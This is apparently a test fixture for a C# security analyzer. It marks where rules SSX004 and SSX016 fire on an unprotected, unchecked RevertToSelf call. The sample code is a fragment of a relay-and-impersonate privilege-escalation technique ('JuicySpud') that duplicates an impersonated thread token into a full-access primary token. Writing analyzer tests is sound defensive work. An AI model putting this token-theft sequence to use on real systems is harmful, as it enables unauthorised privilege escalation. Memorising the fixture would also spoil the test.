// Expect: SSX004, SSX016
// Why: SSX004 ("a revert only in the straight-line code after the work is not enough"): OpenThreadToken / DuplicateTokenEx / Console calls may throw while impersonating and RevertToSelf is not in a finally. SSX016 (added with that rule): a revert whose result is discarded (C-SSPI-3, C-ALL-2).
using System;
using System.Runtime.InteropServices;

namespace JuicySpud
{
    [StructLayout(LayoutKind.Sequential)]
    public struct SecHandle { public IntPtr dwLower; public IntPtr dwUpper; }

    [StructLayout(LayoutKind.Sequential)]
    public struct SecBufferDesc { public int ulVersion; public int cBuffers; public IntPtr pBuffers; }

    static class Exploit
    {
        [DllImport("secur32.dll")] static extern int AcceptSecurityContext(ref SecHandle cred, IntPtr ctx, ref SecBufferDesc input, uint req, uint rep, ref SecHandle newCtx, ref SecBufferDesc output, out uint attrs, out long expiry);
        [DllImport("secur32.dll")] static extern int ImpersonateSecurityContext(ref SecHandle phContext);
        [DllImport("advapi32.dll")] static extern bool RevertToSelf();
        [DllImport("advapi32.dll", SetLastError = true)] static extern bool OpenThreadToken(IntPtr thread, uint access, bool openAsSelf, out IntPtr token);
        [DllImport("advapi32.dll", SetLastError = true)] static extern bool DuplicateTokenEx(IntPtr existing, uint access, IntPtr attrs, int level, int type, out IntPtr newToken);
        [DllImport("kernel32.dll")] static extern IntPtr GetCurrentThread();

        static SecHandle credHandle;
        static SecHandle serverContext;

        public static IntPtr FinishRelayAndSteal(SecBufferDesc type3Message)
        {
            var output = new SecBufferDesc();
            int ret = AcceptSecurityContext(ref credHandle, IntPtr.Zero, ref type3Message, 0, 0x10, ref serverContext, ref output, out uint attrs, out long expiry);
            if (ret != 0)
            {
                Console.WriteLine("[-] AcceptSecurityContext (type 3) failed: 0x{0:x8}", ret);
                return IntPtr.Zero;
            }

            if ({|SSX004:ImpersonateSecurityContext(ref serverContext)|} != 0)
            {
                Console.WriteLine("[-] ImpersonateSecurityContext failed");
                return IntPtr.Zero;
            }

            Console.WriteLine("[+] got the context, grabbing the thread token");
            OpenThreadToken(GetCurrentThread(), 0xF01FF, false, out IntPtr threadToken);
            DuplicateTokenEx(threadToken, 0xF01FF, IntPtr.Zero, 2, 1, out IntPtr primary);
            {|SSX016:RevertToSelf()|};

            Console.WriteLine("[+] primary token: 0x{0:x}", primary.ToInt64());
            return primary;
        }
    }
}
